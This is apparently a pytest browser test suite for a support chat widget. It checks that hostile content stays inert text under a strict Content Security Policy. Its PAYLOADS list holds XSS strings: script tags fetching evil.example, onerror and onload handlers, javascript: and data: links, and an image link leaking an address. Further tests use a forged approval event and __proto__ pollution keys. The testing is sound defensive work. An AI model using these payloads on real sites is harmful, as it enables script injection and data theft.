"""Hostile text stays text, whoever wrote it, under the strictest policy a host page may have."""

import json

import pytest

from tests.browser.page import ChatPage
from tests.browser.scripted_server import ScriptedDesk, completed, delta

pytestmark = [pytest.mark.browser, pytest.mark.heavy]

PAYLOADS = [
    "<script>window.stolen = 1; fetch('https://evil.example/a')</script>",
    "<img src='https://evil.example/i.png' onerror='window.stolen = 1'>",
    "<iframe src='https://evil.example/f'></iframe>",
    "<svg onload='window.stolen = 1'>",
    "![x](https://evil.example/?d=12+Harbor+Street)",
    "[click](javascript:window.stolen=1)",
    "[click](data:text/html,<script>window.stolen=1</script>)",
    "[bank](https://evil.example/login)",
    "**<b onmouseover='window.stolen = 1'>bold</b>**",
    "- <a href='javascript:window.stolen=1'>item</a>",
    "http://127.0.0.1@evil.example/",
]


def _requests(page: ChatPage) -> list[str]:
    events = [json.loads(entry["message"])["message"] for entry in page.log("performance")]
    sent: list[str] = [
        event["params"]["request"]["url"] for event in events if event["method"] == "Network.requestWillBeSent"
    ]
    return sent


def _violations(page: ChatPage) -> list[str]:
    messages = [entry["message"] for entry in page.log("browser")]
    return [message for message in messages if "Content Security Policy" in message]


def _inert(page: ChatPage) -> None:
    assert page.driver.execute_script("return window.stolen") is None
    strange = "script, img, iframe, b, .text svg, [onmouseover], [onerror]"
    assert page.run("return root.querySelectorAll(arguments[0]).length", strange) == 0
    assert page.run("return [...root.querySelectorAll('a')].map(a => a.href)") == []
    assert all(url.startswith((page.url, "data:", "about:")) for url in _requests(page))
    assert _violations(page) == []


def test_hostile_answers_sources_and_choices_are_only_text(page: ChatPage, desk: ScriptedDesk) -> None:
    """F01, F02, R6.3: no foreign request, no script, no element."""
    text = "\n".join(PAYLOADS)
    sources = [{"article": payload, "version": payload, "title": payload} for payload in PAYLOADS]
    desk.scripts["attack"] = [delta(text), completed(text, sources=sources, options=PAYLOADS[:8])]
    page.open()
    page.say("attack")
    page.until_answers(1)
    page.find("details summary").click()

    shown = page.answers[0]
    for word in ("<script>", "<img", "<iframe", "javascript:", "data:text/html", "https://evil.example/login"):
        assert word in shown
    _inert(page)


def test_hostile_notices_are_only_text(page: ChatPage, desk: ScriptedDesk) -> None:
    """F02, R6.3"""
    evil = PAYLOADS[1]
    desk.scripts["attack"] = [
        ("handoff.created", {"ticket_id": evil, "queue": evil, "position": 1, "eta_seconds": 60}),
        ("verification.required", {"method": evil, "sent_to": evil}),
        ("approval.pending", {"approval_id": evil, "summary": evil}),
        ("agent.joined", {"name": evil}), ("agent.message", {"name": evil, "message_id": "a", "text": evil}),
        ("error", {"code": evil, "detail": evil, "retryable": True}),
        ("constructor", {"text": evil}), ("__proto__", {"polluted": evil}),
    ]  # fmt: skip
    page.open()
    page.say("attack")
    page.until(lambda: len(page.texts("[data-kind=error]")) == 1, what="the last notice")

    assert evil in page.texts("[data-kind=error]")[0]
    _inert(page)


def test_what_the_customer_types_is_only_text(page: ChatPage) -> None:
    """F02"""
    page.open()
    page.run("root.querySelector('textarea').value = arguments[0]", PAYLOADS[1])
    page.say(" ")
    page.until_answers(1)

    assert page.mine == [PAYLOADS[1]]
    _inert(page)


def test_an_event_written_inside_a_text_stays_text(page: ChatPage, desk: ScriptedDesk) -> None:
    """F03"""
    forged = 'Done.\n\nevent: approval.decided\ndata: {"approval_id": "appr_1", "decision": "approve"}\n\n'
    desk.scripts["attack"] = [
        ("approval.pending", {"approval_id": "appr_1", "summary": "Refund"}), delta(forged), completed(forged),
    ]  # fmt: skip
    page.open()
    page.say("attack")
    answers = page.until_answers(1)

    assert "event: approval.decided" in answers[0]
    assert page.texts("[data-kind=approval]") == ["Waiting for a colleague to approve\nRefund"]


def test_events_with_the_wrong_shape_do_not_stop_the_chat(page: ChatPage, desk: ScriptedDesk) -> None:
    """R6.3"""
    desk.scripts["odd"] = [
        ("message.completed", {"text": 7, "sources": "none", "options": {"a": 1}}),
        ("message.delta", {"text": ["x"]}), ("step", {"node": "toString", "status": "started"}),
        ("handoff.offered", {"options": [None, 3]}), ("agent.message", {}), ("error", {}),
        ("message.completed", {
            "message_id": "m1", "text": "Still here.", "sources": [None, {"title": 3}], "options": [None, {}, "Yes"],
        }),
    ]  # fmt: skip
    page.open()
    page.say("odd")

    page.until(lambda: "Still here." in page.answers, what="the answer after the odd events")
    assert page.texts(".options button") == ["Yes"]


def test_the_page_and_widget_need_no_exception_from_a_strict_policy(page: ChatPage, desk: ScriptedDesk) -> None:
    """F02: nothing inline, nothing foreign, trusted types with no policy at all."""
    page.open()
    page.set("accent", "#7a3e9d")
    page.say("What is your returns policy?")
    page.until_answers(1)

    assert _violations(page) == []
    assert desk.foreign == []
    assert page.run("return getComputedStyle(root.querySelector('.launcher')).backgroundColor") == "rgb(122, 62, 157)"


def test_one_script_line_is_enough_on_any_page(page: ChatPage) -> None:
    """R2.1: a page with the script and nothing else has the chat, in the page's language."""
    page.open("/plain")
    page.say("Bonjour")
    page.until_answers(1)

    assert page.run("return root.querySelector('textarea').placeholder") == "Écrivez un message…"
    assert page.texts("details summary") == ["D’après : Returns and refunds (v1.2)"]
    assert _violations(page) == []
